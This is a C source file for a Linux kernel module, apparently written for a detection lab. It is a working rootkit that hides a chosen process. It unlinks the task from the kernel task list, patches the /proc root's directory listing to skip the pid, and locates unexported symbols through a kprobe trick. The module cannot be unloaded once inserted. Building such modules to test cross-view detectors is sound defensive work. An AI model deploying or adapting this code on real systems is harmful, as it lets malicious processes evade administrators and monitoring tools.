// SPDX-License-Identifier: GPL-2.0
/*
 * nitro-hide: the suspicious lab guest's rootkit, harmless. It hides one
 * process, the nitro-hidden sleeper lab/sus/init starts for it, the way
 * rootkits do: it unlinks the task from the kernel's task list
 * (init_task.tasks, what for_each_process walks) and leaves its pid out of
 * /proc's listing (a copy of the /proc root's file operations whose
 * iterate_shared skips that pid's entry). The pid stays in the pid table
 * and the task keeps running, so /proc/PID and kill still find it: views
 * of the tasks that disagree, which nitro's cross-view finds.
 *
 *   insmod nitro-hide.ko pid=N
 *
 * It cannot be unloaded (no exit function): the /proc root keeps pointing
 * at its code. The hidden task stays safe to exit: its list entry is made
 * to point at itself once no reader can be on it, so the kernel's unlink
 * at its exit changes nothing else.
 */
#include <linux/module.h>
#include <linux/kprobes.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/pid.h>
#include <linux/fs.h>
#include <linux/namei.h>
#include <linux/rculist.h>

static int pid;
module_param(pid, int, 0);
MODULE_PARM_DESC(pid, "the process to hide");

static char name[16];				/* the pid as /proc lists it */
static const struct file_operations *proc_fops; /* the /proc root's own */
static struct file_operations hiding_fops;

/* hiding_ctx wraps the caller's dir_context: entries pass through to it,
 * but for the hidden pid's. */
struct hiding_ctx {
	struct dir_context ctx;
	struct dir_context *caller;
};

static bool skip_hidden(struct dir_context *ctx, const char *n, int len, loff_t off, u64 ino, unsigned int type)
{
	struct hiding_ctx *h = container_of(ctx, struct hiding_ctx, ctx);

	if (len == strlen(name) && !memcmp(n, name, len))
		return true; /* go on, without it */
	return h->caller->actor(h->caller, n, len, off, ino, type);
}

static int hiding_iterate(struct file *file, struct dir_context *ctx)
{
	struct hiding_ctx h = { .ctx = { .actor = skip_hidden, .pos = ctx->pos }, .caller = ctx };
	int ret = proc_fops->iterate_shared(file, &h.ctx);

	ctx->pos = h.ctx.pos;
	return ret;
}

/* lookup finds an unexported kernel symbol: kallsyms_lookup_name is no
 * longer exported, but a kprobe on it says where it is. */
static unsigned long lookup(const char *sym)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*kallsyms_lookup_name)(const char *);

	if (register_kprobe(&kp) < 0)
		return 0;
	kallsyms_lookup_name = (void *)kp.addr;
	unregister_kprobe(&kp);
	return kallsyms_lookup_name(sym);
}

static int hide_from_proc(void)
{
	struct path root;
	struct inode *inode;
	int err = kern_path("/proc", LOOKUP_FOLLOW, &root);

	if (err)
		return err;
	inode = d_inode(root.dentry);
	proc_fops = inode->i_fop;
	hiding_fops = *proc_fops;
	hiding_fops.iterate_shared = hiding_iterate;
	inode->i_fop = &hiding_fops; /* what every later open of /proc gets */
	path_put(&root);
	return 0;
}

static int __init hide_init(void)
{
	rwlock_t *tasklist = (rwlock_t *)lookup("tasklist_lock");
	struct task_struct *task;
	int err;

	if (!tasklist)
		return -ENOENT;
	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (!task)
		return -ESRCH;
	if (!thread_group_leader(task)) {
		put_task_struct(task);
		return -EINVAL; /* only leaders are on the task list */
	}
	snprintf(name, sizeof(name), "%d", pid);
	err = hide_from_proc();
	if (err) {
		put_task_struct(task);
		return err;
	}
	write_lock_irq(tasklist);
	list_del_rcu(&task->tasks);
	write_unlock_irq(tasklist);
	synchronize_rcu(); /* no walker is on the entry any more */
	INIT_LIST_HEAD(&task->tasks);
	put_task_struct(task);
	pr_info("nitro-hide: hid pid %d\n", pid);
	return 0;
}

module_init(hide_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nitro lab: hides one process from the task list and /proc");
